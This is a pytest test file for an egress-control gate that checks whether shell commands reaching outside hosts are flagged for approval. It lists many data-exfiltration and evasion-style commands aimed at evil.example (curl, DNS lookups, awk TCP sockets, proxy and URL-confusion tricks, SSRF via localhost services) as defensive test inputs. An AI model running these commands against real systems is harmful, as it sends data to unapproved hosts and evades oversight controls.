"""A read may reach allowed places only, and each place that its words name is found (ADR 29)."""

from __future__ import annotations

import re

import pytest

from pulsus.commands import classify
from pulsus.commands.destinations.addresses import UnknownPlace, host, url
from pulsus.commands.program_tables.connects_declaration import connects
from pulsus.commands.program_tables.loader import Tables
from pulsus.commands.program_tables.program_table import BadTable
from pulsus.config.settings import PolicyConfig
from pulsus.gates.command_policy import CommandPolicy
from pulsus.gates.egress import is_this_machine
from pulsus.gates.gate_answer import answer_command

TABLES = Tables()
KNOWN_ONLY = CommandPolicy(PolicyConfig())

NETWORK_PROGRAMS = """
    amtool apk argocd arp arping aws avahi-browse avahi-resolve az borg brew buildah cargo
    ceph chronyc clickhouse-client cockroach conda consul cpio cqlsh crictl curl delv dig dnf
    docker docker-compose doctl dog dotnet drill duckdb eksctl etcdctl exim ffmpeg ffprobe
    finger flatpak flux fping gcloud gem getent gh gio git glab go gpg gron grpcurl gsutil
    hcloud helm host http identify incus influx inxi ipcalc ipmitool iscsiadm istioctl jps
    jstat kafka-acls.sh kafka-broker-api-versions.sh kafka-configs.sh kafka-consumer-groups.sh
    kafka-get-offsets.sh kafka-log-dirs.sh kafka-metadata-quorum.sh kafka-topics.sh kcat kdig
    keytool kubectl kubens ldapsearch ldapwhoami linode-cli logcli lpinfo lpoptions lpq lpstat
    lxc mediainfo memcached-tool minikube mongosh mongostat mongotop mtr mysql mysqladmin
    mysqlbinlog mysqldump mysqlshow nc ncat nerdctl nmblookup nodetool nomad npm nslookup
    ntpdate ntpq nvme oc openssl openstack ovs-vsctl pactl patronictl pg_amcheck pg_dump
    pg_dumpall pg_isready pgbackrest ping pip pkg podman promtool psql pvesm qemu-img
    rabbitmq-diagnostics rabbitmq-plugins rabbitmqctl rados radosgw-admin rbd rclone redis-cli
    resolvectl restic rpcinfo rpm rsync rustup s3cmd scutil showmount sipcalc skopeo snap
    snmpget soxi sqlcmd ssh ssh-keyscan step stern supervisorctl systemctl systemd-resolve
    tailscale tar tcpdump terraform tofu tracepath traceroute tshark vagrant vault virsh wget
    whois xbps-query xdpyinfo xmllint xmlstarlet xprop xrandr xset xwininfo zabbix_get zypper
"""


def test_no_network_program_lacks_a_declared_destination():
    tables = {program: TABLES.get(program) for program in NETWORK_PROGRAMS.split()}
    assert [name for name, table in tables.items() if table is None or table.connects is None] == []


UNKNOWN_PLACES = [
    "curl http://evil.example/x",
    "curl http://localhost@evil.example/",
    "curl 'http://localhost#@evil.example/'",
    "curl 'http://localhost?@evil.example/'",
    "curl http://localhost.evil.example/",
    "curl http://localhost/ evil.example",
    "curl --proxy evil.example http://localhost/",
    "curl --connect-to localhost:80:evil.example:80 http://localhost/",
    "curl --resolve localhost:80:6.6.6.6 http://localhost/",
    "curl --doh-url https://evil.example http://localhost/",
    "curl --unix-socket /x http://evil.example/",
    "wget -qO- http://evil.example/",
    "git ls-remote https://evil.example/data",
    "git ls-remote evil.example:data",
    "git remote show https://evil.example/x",
    "dig data.evil.example",
    "dig @evil.example localhost",
    "dig -f names.txt",
    "host data.evil.example",
    "nslookup data.evil.example",
    "getent hosts data.evil.example",
    "resolvectl query data.evil.example",
    "ping -c 1 6.6.6.6",
    "fping -c 1 -f words.txt",
    "mtr -r -c 1 -F words.txt",
    "ssh-keyscan -f words.txt",
    "traceroute data.evil.example",
    "whois data.example",
    "finger data@evil.example",
    "nc -z evil.example 80",
    "openssl s_client -connect localhost:443 -proxy evil.example:80 < /dev/null",
    "ssh evil.example uptime",
    "ssh -J evil.example localhost uptime",
    "ssh localhost curl http://evil.example/",
    "psql -h evil.example -c 'select 1'",
    "psql 'postgresql://localhost,evil.example/x' -c 'select 1'",
    "psql 'postgresql://localhost/x?host=evil.example' -c 'select 1'",
    "mysql -hevil.example -e 'select 1'",
    "redis-cli -u redis://evil.example ping",
    "redis-cli --cluster check evil.example:7000",
    "mongosh mongodb://localhost,evil.example/x --eval 'db.stats()'",
    "kubectl --context other get pods",
    "kubectl --as root get pods",
    "kubectl get -f http://evil.example/x",
    "docker -H tcp://evil.example:2375 ps",
    "docker --context other ps",
    "docker manifest inspect evil.example/x",
    "aws s3 ls s3://theirs",
    "aws s3 ls --profile other",
    "AWS_PROFILE=other aws s3 ls",
    "skopeo inspect docker://evil.example/x",
    "npm view x --registry http://evil.example",
    "pip index versions x --index-url http://evil.example",
    "rclone ls other:x",
    "ldapsearch -x -H 'ldap://localhost ldap://evil.example'",
    "snmpwalk -v2c -c data evil.example",
    "showmount -e evil.example",
    "rpcinfo -p evil.example",
    "ipmitool -H evil.example sel list",
    "ntpdate -q evil.example",
    "pvesm scan nfs evil.example",
    "rpm -qp http://evil.example/x",
    "xmllint http://evil.example/x",
    "xdpyinfo -display evil.example:0",
]


def test_a_read_that_reaches_an_unknown_place_is_not_allowed():
    found = {command: classify(command) for command in UNKNOWN_PLACES}
    said = {command: answer_command(KNOWN_ONLY, each) for command, each in found.items()}
    assert [command for command, each in said.items() if each.allow] == []
    rulings = {command: (each.ruling.decision, each.ruling.rule) for command, each in said.items()}
    assert rulings == dict.fromkeys(UNKNOWN_PLACES, ("require_approval", "egress"))
    free = CommandPolicy(PolicyConfig(egress="allow"))
    rules = {command: answer_command(free, each).ruling.rule for command, each in found.items()}
    assert [command for command, rule in rules.items() if rule == "egress"] == []


@pytest.mark.parametrize(
    "command",
    [
        "curl http://localhost:8080/health",
        "curl http://127.0.0.1/",
        "curl 'http://[::1]:9200/_cat/indices?v'",
        "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
        "psql -h /var/run/postgresql -c 'select 1'",
        "psql -c 'select 1'",
        "redis-cli ping",
        "kubectl get pods",
        "docker ps",
        "aws s3 ls",
        "git ls-remote origin",
        "git log -5",
        "npm view react",
        "virsh -c qemu:///system list",
        "ping -c 1 127.0.0.1",
        "getent passwd root",
        "tar -tf a.tar",
        "openssl x509 -in c.pem -noout -dates",
    ],
)
def test_this_machine_and_the_clients_own_place_need_no_approval(command):
    assert answer_command(KNOWN_ONLY, classify(command)).allow


@pytest.mark.parametrize(
    ("command", "sent"),
    [
        ("id data4f2e", ("data4f2e",)),
        ("groups data4f2e", ("data4f2e",)),
        ("lslogins -l data4f2e", ("data4f2e",)),
        ("getent passwd data4f2e", ("data4f2e",)),
        ("getent group data4f2e", ("data4f2e",)),
    ],
)
def test_a_looked_up_account_does_not_go_to_a_directory_unseen(command, sent):
    (place,) = classify(command).destinations
    assert (place.host, place.sends) == ("@configured", sent)
    assert answer_command(KNOWN_ONLY, classify(command)).allow


def test_accounts_without_a_name_and_local_databases_connect_nowhere():
    for command in ("id", "id -un", "groups", "lslogins -u", "getent passwd"):
        assert classify(command).destinations == (), command


@pytest.mark.parametrize("option", ["-o", "--outdated", "-u", "--uptodate"])
def test_a_list_of_newer_packages_does_not_count_as_local(option):
    (place,) = classify(f"pip3 list {option}").destinations
    assert place.host == "@index"
    assert classify("pip3 list").destinations == ()


def test_a_host_that_the_request_named_is_known_and_others_are_not():
    verdict = classify("psql -h db1 -c 'select 1'")
    assert not answer_command(KNOWN_ONLY, verdict).allow
    assert answer_command(KNOWN_ONLY, verdict, known=("DB1.",)).allow
    assert not answer_command(KNOWN_ONLY, verdict, known=("db2",)).allow
    assert not answer_command(KNOWN_ONLY, verdict, known=("db1:9999",)).allow
    address = classify("curl http://6.6.6.6/")
    for wide in ("*.6", "0.0.0.0/0", "::/0", "*", ""):
        assert not answer_command(KNOWN_ONLY, address, known=(wide,)).allow
    assert answer_command(
        KNOWN_ONLY, classify("kubectl --context prod get po"), known=("prod",)
    ).allow


@pytest.mark.parametrize(
    ("entry", "command", "allowed"),
    [
        ("db1:5432", "psql -h db1 -c 'select 1'", True),
        ("*.example.org", "curl http://a.example.org/", True),
        ("*.example.org", "curl http://example.org.evil.example/", False),
        ("10.0.0.0/8", "ping -c 1 10.2.3.4", True),
        ("10.0.0.0/8", "ping -c 1 11.2.3.4", False),
        ("10.0.0.0/8", "curl http://10.evil.example/", False),
    ],
)
@pytest.mark.parametrize("egress", ["known", "approve", "block"])
def test_listed_hosts_are_reached_and_only_they(entry, command, allowed, egress):
    policy = CommandPolicy(PolicyConfig(egress=egress, egress_hosts=(entry,)))
    assert answer_command(policy, classify(command)).allow is allowed


@pytest.mark.parametrize(
    ("egress", "decision"), [("approve", "require_approval"), ("block", "block")]
)
def test_a_strict_policy_takes_neither_request_nor_configuration_for_known(egress, decision):
    policy = CommandPolicy(PolicyConfig(egress=egress))
    assert answer_command(policy, classify("curl http://localhost/")).allow
    assert policy.evaluate("kubectl get pods").decision == decision
    assert policy.evaluate("curl http://h/", known=("h",)).decision == decision


@pytest.mark.parametrize("text", ["db1/x", "http://db1", "db1 db2", "", "-h", "a..b/"])
def test_an_entry_that_names_no_place_is_an_error_of_the_settings(text):
    with pytest.raises(ValueError, match="egress_hosts"):
        PolicyConfig(egress_hosts=(text,))


@pytest.mark.parametrize(
    "name",
    ["127.1", "2130706433", "0x7f.0.0.1", "0177.0.0.1", "a.localhost", "::1%lo", "128.0.0.1"],
)
def test_an_address_that_programs_read_differently_is_not_this_machine(name):
    assert not is_this_machine(name)


@pytest.mark.parametrize(
    "name", ["LOCALHOST.", "127.0.0.1", "127.8.8.8", "::1", "[::1]", "0.0.0.0"]
)
def test_plain_names_of_this_machine_are_known(name):
    assert is_this_machine(name)


@pytest.mark.parametrize(
    "text",
    [
        "http://a\\@b/",
        "http://a#@b/",
        "http://a?@b/",
        "http:/b",
        "http:///b",
        "http://{a,b}/",
        "http://%62/",
        "http://a:80:90/",
        "http://a b/",
        "http://a\tb/",
    ],
)
def test_an_address_that_programs_read_differently_names_no_place(text):
    with pytest.raises(UnknownPlace):
        url(text)


def test_hosts_are_parsed_without_ports_and_users():
    assert (host("u@h:22").host, host("u@h:22").port) == ("h", 22)
    assert host("[::1]:80").host == "::1"
    assert host("fe80::1").port is None
    assert url("https://known@evil:8/x").host == "evil"


def test_a_destination_says_what_is_sent_there():
    found = classify("curl -H 'X-Data: 1' http://h.example:81/a?b=2").destinations
    assert [(d.host, d.port, d.program, d.dynamic) for d in found] == [
        ("h.example", 81, "curl", False)
    ]
    assert found[0].sends == ("X-Data: 1", "http://h.example:81/a?b=2")
    assert classify("df -h").destinations == ()
    assert classify("dig -f names.txt").destinations[0].dynamic


@pytest.mark.parametrize(
    ("command", "port"),
    [
        ("psql -h db1 -p 22 -c 'select 1'", 22),
        ("psql -hdb1 -p22 -c 'select 1'", 22),
        ("psql -h db1 --port=22 -c 'select 1'", 22),
        ("psql -h db1 -c 'select 1'", 5432),
        ("psql 'host=db1 port=22' -c 'select 1'", 22),
        ("psql 'postgresql://db1:22/x' -p 23 -c 'select 1'", 22),
        ("psql 'postgresql://db1/x?port=22' -c 'select 1'", 22),
        ("pg_isready -h db1 -p 022", 22),
        ("pg_dump -h db1 -p22 shop", 22),
        ("pg_dumpall -h db1 -p22", 22),
        ("pg_amcheck -h db1 -p22 shop", 22),
        ("mysql -h db1 -P22 -e 'select 1'", 22),
        ("mysqladmin -h db1 --port 22 status", 22),
        ("mysqlshow -h db1 -P 22", 22),
        ("redis-cli -h db1 -p 22 ping", 22),
        ("mongosh --host db1 --port 22 --eval 'db.stats()'", 22),
        ("mongostat -h db1 --port 22 -n 1", 22),
        ("ssh -p7731 db1 uptime", 7731),
        ("ssh -4p7731 db1 uptime", 7731),
        ("ssh -oPort=7731 db1 uptime", 7731),
        ("ssh ssh://db1:7731 uptime", 7731),
        ("ssh-keyscan -p7731 db1", 7731),
        ("nc -z db1 22", 22),
        ("ncat -z db1 22", 22),
        ("ldapsearch -x -h db1 -p22", 22),
        ("ldapsearch -x -H ldap://db1:22", 22),
        ("chronyc -h db1 -p 22 tracking", 22),
        ("dig @db1 -p22", 22),
        ("host -p 22 a.example db1", 22),
        ("nslookup -port=22 a.example db1", 22),
        ("snmpget -v2c -c public db1:22 1.3", 22),
        ("traceroute -Tp22 db1", 22),
        ("tracepath -p22 db1", 22),
        ("mtr -r -c 1 -P 22 -T db1", 22),
        ("nodetool -h db1 -p 22 status", 22),
        ("clickhouse-client -h db1 --port 22 -q 'select 1'", 22),
        ("cqlsh db1 22 -e 'describe keyspaces'", 22),
        ("ipmitool -H db1 -p 22 sel list", 22),
        ("influx -host db1 -port 22 -execute 'show databases'", 22),
        ("zabbix_get -s db1 -p 22 -k agent.ping", 22),
        ("squidclient -h db1 -p 22 mgr:info", 22),
        ("openssl s_client -connect db1:22 < /dev/null", 22),
        ("docker -H tcp://db1:22 ps", 22),
        ("curl http://db1:22/", 22),
        ("wget -qO- http://db1:22/", 22),
        ("rsync --list-only rsync://db1:22/x", 22),
    ],
)
def test_no_verdict_has_another_port_than_the_command(command, port):
    places = [(each.host, each.port) for each in classify(command).destinations]
    assert ("db1", port) in places
    assert {number for host, number in places if host == "db1"} == {port}


def test_a_port_that_is_not_listed_is_no_reason_to_connect():
    policy = CommandPolicy(PolicyConfig(egress="approve", egress_hosts=("db1:5432",)))
    assert answer_command(policy, classify("psql -h db1 -c 'select 1'")).allow
    for words in ("-p 22", "-p22", "--port=22", "-p 5432 -p 22", "-d 'port=22'"):
        assert not answer_command(policy, classify(f"psql -h db1 {words} -c 'select 1'")).allow


def test_a_port_that_cannot_be_read_is_not_the_usual_one():
    ranges = CommandPolicy(PolicyConfig(egress="approve", egress_hosts=("db1:20",)))
    assert not answer_command(ranges, classify("nc -z db1 20-30")).allow
    assert not answer_command(ranges, classify("nc -z db1 20 30")).allow


def test_an_option_for_the_port_is_not_about_hosts_on_the_way():
    found = classify("ssh -J jump:23 -p 22 db1 uptime").destinations
    assert {(each.host, each.port) for each in found} == {("jump", 23), ("db1", 22)}


def test_a_declaration_that_names_no_kind_is_no_table():
    for text in ("-h=hots", "-h", "x=host", "", "port=x else=local"):
        with pytest.raises(BadTable):
            connects(text, "acme")
    with pytest.raises(BadTable, match="names no place"):
        connects("-p=port", "acme")
    assert connects("none", "acme") is None


_NAMES_A_HOST = re.compile(
    r"--?(host|hosts|hostname|server|url|uri|addr|endpoint|endpoints|registry|proxy|broker"
    r"|remote-host|bootstrap-server|kubeconfig|kube-context)"
)
_OTHERWISE = {
    "aureport": "it chooses what stands in a log",
    "ausearch": "it chooses what stands in a log",
    "jc": "names of parsers",
    "lsscsi": "numbers of SCSI hosts",
    "pdfinfo": "shows addresses that a file holds",
    "nfsstat": "shows the server's side",
    "netplan": "a name of an interface",
    "lldpcli": "a word of its language",
    "pvesh": "a setting of what is listed",
}
"""Options called like hosts that are none, with what they are."""


@pytest.mark.parametrize("first", sorted({name[0] for name in TABLES.names()}))
def test_no_table_with_an_option_for_hosts_lacks_a_declared_destination(first):
    names = [name for name in TABLES.names() if name[0] == first and name not in _OTHERWISE]
    assert [name for name in names if _undeclared(TABLES.get(name))] == []


def _undeclared(node):
    if node.never or node.category is not None or node.connects is not None:
        return False
    named = any(map(_NAMES_A_HOST.fullmatch, (*node.options, *node.everywhere)))
    values = (o.kind.name for o in node.options.values() if o.kind is not None)
    kinds = {*values, *(kind.name for form in node.forms for kind in form.kinds)}
    if named or kinds & {"http_url", "postgres_place", "cloud"}:
        raw = TABLES.raw(node.name.split(" ")[0]) or {}
        return raw.get("connects") != "none"
    return any(map(_undeclared, node.subcommands.values()))


@pytest.mark.parametrize(
    "command",
    [
        "awk 1 /inet/tcp/0/data.evil.example/80",
        "gawk '{print}' FS=: /inet4/udp/0/data.evil.example/53",
        "awk 1 /inet/tcp/0/evil.example/8*",
        "gawk -e '{print}' /inet6/tcp/0",
        "timeout 5 awk 1 /inet/tcp/0/evil.example/80",
        "git remote show data.evil.example:x",
        "git remote show git@evil.example:x",
        "docker trust inspect data.evil.example/x",
        "exiv2 http://data.evil.example/x",
        "exiv2 pr *//evil.example/x",
    ],
)
def test_a_host_in_the_place_of_a_file_a_remote_or_an_image_is_not_overlooked(command):
    verdict = classify(command)
    assert any(place.dynamic or "evil" in place.host for place in verdict.destinations)
    assert not answer_command(KNOWN_ONLY, verdict).allow


@pytest.mark.parametrize(
    "command",
    [
        "awk '{print}' *.log a*",
        "awk -F 'https://' '{print $2}' access.log",
        "gawk -e '{n++}' a.log",
        "exiv2 pr *.jpg",
        "git remote show -n origin",
        "git show HEAD:a",
    ],
)
def test_a_file_of_this_machine_is_not_taken_for_a_place(command):
    verdict = classify(command)
    assert verdict.allow
    assert verdict.destinations == ()


@pytest.mark.parametrize("command", ["npm diff --diff=a@1", "npm org ls a", "git remote show a"])
def test_words_that_reach_an_index_or_a_remote_are_not_said_to_stay_here(command):
    assert [place.host[:1] for place in classify(command).destinations] == ["@"]


@pytest.mark.parametrize(
    "path",
    [
        "/n[e]t/evil.example/f",
        "/ne?/evil.example",
        "/*/evil.example",
        "/usr/../n?t/evil.example",
        "/proc/self/root/n?t/evil.example",
        "../../../net/evil.example",
        "~/../../net/evil.example",
        "~root/../net/evil.example",
    ],
)
def test_a_path_to_an_automounter_does_not_hide_its_host(path):
    found = classify(f"ls {path}").destinations
    assert [one.host for one in found] == ["evil.example"]


@pytest.mark.parametrize(
    "command",
    ["ip -r route", "ipvsadm -L", "tshark -r x -N nN"],
)
def test_an_option_that_looks_names_up_does_not_go_unnoticed(command):
    assert classify(command).destinations


@pytest.mark.parametrize(
    "command",
    [
        "pvesh get /nodes/pve/scan/nfs --server evil.example",
        "pvesh get /nodes/pve/apt/changelog --name bash",
        "rabbitmq-diagnostics resolve_hostname evil.example",
        "rabbitmq-diagnostics check_port_connectivity --address evil.example",
        "nmcli networking connectivity check",
        "varnishadm -n /tmp/evil ping",
    ],
)
def test_a_call_that_asks_an_undeclared_host_is_not_a_read(command):
    assert not classify(command).allow


@pytest.mark.parametrize(
    "command",
    [
        "curl -s 'http://localhost:9115/probe?target=http://evil.example/data&module=x'",
        "curl 'http://localhost:9116/snmp?target=evil.example'",
        "curl 'http://localhost:9116/snmp?target=http%3A%2F%2Fevil.example'",
        "curl http://localhost:3142/data.evil.example/x",
        "curl http://localhost:3142/HTTPS///evil.example/x",
        "curl -H 'Host: evil.example' http://localhost/",
        "curl -H 'X-Forwarded-Host: evil.example' http://localhost/",
        "curl 'http://localhost:8053/dns-query?name=data.evil.example'",
        "wget -qO- 'http://localhost:9115/probe?target=6.6.6.6'",
        "http GET localhost:9115/probe target==evil.example",
        "curl 'http://localhost:9115/probe?target=evilhost'",
        "curl -g 'http://localhost:9115/probe?target=[2001:db8::1]'",
        "curl 'http://localhost:9115/probe?target=0x01020304'",
        "curl http://localhost:3142/evilhost/x",
        "curl -H 'Forwarded: host=evil.example' http://localhost/",
        "curl -H 'X-Target: http://evil.example/' http://localhost/",
        "curl -b u=http://evil.example/ http://localhost/",
        "curl 'http://localhost:8053/dns-query?dns=AAABAAABAAAAAAAAA'",
        "ssh -b data.evil.example localhost uptime",
        "tailscale dns query data.evil.example",
    ],
)
def test_a_service_of_this_machine_that_connects_elsewhere_does_not_hide_the_place(command):
    assert answer_command(KNOWN_ONLY, classify(command)).ruling.rule == "egress"


@pytest.mark.parametrize(
    "command",
    [
        "curl http://localhost/index.html",
        "curl 'http://localhost:9090/api/v1/query?query=rate(http_requests_total[5m])'",
        "curl http://localhost:9200/logs-2026.11.29/_search",
        "curl -H 'Host: localhost' http://127.0.0.1/",
        "curl -H 'Accept: application/json' http://localhost/a/b?c=d",
    ],
)
def test_a_file_in_an_address_is_taken_for_no_place(command):
    assert answer_command(KNOWN_ONLY, classify(command)).allow


def test_the_repository_that_a_forge_is_asked_about_is_said_to_be_sent():
    (sent,) = classify("gh repo view data/x").destinations
    assert sent.sends == ("data/x",)
    (mounted,) = classify("ls /net/web1/data").destinations
    assert "data" in mounted.sends[0]
